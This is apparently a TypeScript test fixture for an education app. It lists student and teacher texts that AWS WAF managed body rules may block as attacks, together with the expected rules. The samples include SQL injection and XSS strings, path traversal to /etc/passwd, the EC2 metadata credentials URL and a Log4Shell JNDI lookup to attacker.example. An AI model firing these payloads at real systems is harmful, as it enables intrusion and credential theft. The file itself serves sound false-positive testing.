import { createAssignment } from '../../../apps/api/assignments/assignments.routes.ts';
import { createCategory } from '../../../apps/api/assignments/categories.routes.ts';
import { changePassword } from '../../../apps/api/auth/account.routes.ts';
import { signIn } from '../../../apps/api/auth/sign-in.routes.ts';
import type { RouteSpec } from '../../../apps/api/http/route-spec.ts';
import { submitWork } from '../../../apps/api/submissions/submissions.routes.ts';
import { searchUsers } from '../../../apps/api/users/users.routes.ts';

/** What people write that a rule about bodies takes for an attack. */
export interface Payload {
  readonly says: string;
  readonly route: RouteSpec;
  /** Over the example of the route. */
  readonly body: Readonly<Record<string, unknown>>;
  /** Rules of AWS's groups that may find something in it, as `GROUP/RULE`. */
  readonly found: readonly string[];
}

const common = (name: string) => `AWSManagedRulesCommonRuleSet/${name}_BODY`;
const known = (name: string) => `AWSManagedRulesKnownBadInputsRuleSet/${name}_BODY`;
const sql = ['SQLi', 'SQLiExtendedPatterns'].map((name) => `AWSManagedRulesSQLiRuleSet/${name}_BODY`);

/** Texts as teachers and students of the subject write them, each with the rules that may block it. */
export const payloads: readonly Payload[] = [
  {
    says: 'an exercise on SQL injection',
    route: createAssignment,
    body: {
      title: "Exercise 7: why ' OR 1=1 -- opens the door",
      description:
        "Explain SELECT * FROM users WHERE name = '' OR '1'='1'; then try '; DROP TABLE students; -- in the sandbox.",
    },
    found: sql,
  },
  {
    says: 'an exercise on joins and unions',
    route: createAssignment,
    body: {
      title: 'UNION SELECT',
      description:
        'SELECT name FROM a UNION ALL SELECT password FROM b WHERE id = 1 AND SLEEP(5); -- why is this slow?',
    },
    found: sql,
  },
  {
    says: 'an exercise on HTML and scripts',
    route: createAssignment,
    body: {
      title: 'Write a page with <script>',
      description:
        '<img src=x onerror="alert(1)"> <script>document.cookie</script> <a href="javascript:void(0)">click</a>',
    },
    found: [common('CrossSiteScripting')],
  },
  {
    says: 'a submission about the files of Linux',
    route: submitWork,
    body: {
      comment: 'Solution: cat ../../../etc/passwd and ../../../../proc/self/environ, then chmod 0600 ~/.ssh/id_rsa',
    },
    found: [common('GenericLFI')],
  },
  {
    says: 'a submission with links to its sources',
    route: submitWork,
    body: { comment: 'http://192.0.2.17/report.php?file=http://example.org/notes.txt and ftp://203.0.113.5/data.csv' },
    found: [common('GenericRFI')],
  },
  {
    says: 'a submission about cloud servers',
    route: submitWork,
    body: {
      comment: 'The metadata service answers at http://169.254.169.254/latest/meta-data/iam/security-credentials/',
    },
    found: [common('EC2MetaDataSSRF')],
  },
  {
    says: 'a lesson on the worst holes of the last years',
    route: createAssignment,
    body: {
      title: 'Log4Shell',
      description:
        // biome-ignore lint/suspicious/noTemplateCurlyInString: it is the text of the hole
        'What does ${jndi:ldap://attacker.example/a} do? Compare rO0ABXNyABFqYXZhLnV0aWwuSGFzaE1hcA== and {"then":"$1:__proto__:then"}.',
    },
    found: ['Log4JRCE', 'JavaDeserializationRCE', 'ReactJSRCE'].map(known),
  },
  {
    says: 'an essay longer than 8 KB',
    route: submitWork,
    body: { comment: 'Die Wellen schlugen an das Ufer. '.repeat(300) },
    found: [common('SizeRestrictions')],
  },
  {
    says: 'a category with an ampersand and brackets',
    route: createCategory,
    body: { title: 'R&D <50 %> "oral"' },
    found: [common('CrossSiteScripting')],
  },
  { says: 'a password that looks like SQL', route: signIn, body: { password: "Tr'1=1;--SELECT" }, found: sql },
  {
    says: 'a new password that looks like HTML',
    route: changePassword,
    body: { newPassword: '<script>Abc1!</script>' },
    found: [common('CrossSiteScripting')],
  },
  { says: 'a search for a name with an apostrophe', route: searchUsers, body: { q: "O'Neill--" }, found: sql },
];

/**
 * The rules of AWS's groups that look into bodies (AWS WAF Developer Guide, "Baseline rule groups" and "Use-case specific
 * rule groups"; a group that is not here has none).
 */
export const bodyRules: Readonly<Record<string, readonly string[]>> = {
  AWSManagedRulesAmazonIpReputationList: [],
  AWSManagedRulesCommonRuleSet: [
    'SizeRestrictions',
    'EC2MetaDataSSRF',
    'GenericLFI',
    'GenericRFI',
    'CrossSiteScripting',
  ].map(common),
  AWSManagedRulesKnownBadInputsRuleSet: ['JavaDeserializationRCE', 'Log4JRCE', 'ReactJSRCE'].map(known),
  AWSManagedRulesSQLiRuleSet: sql,
};
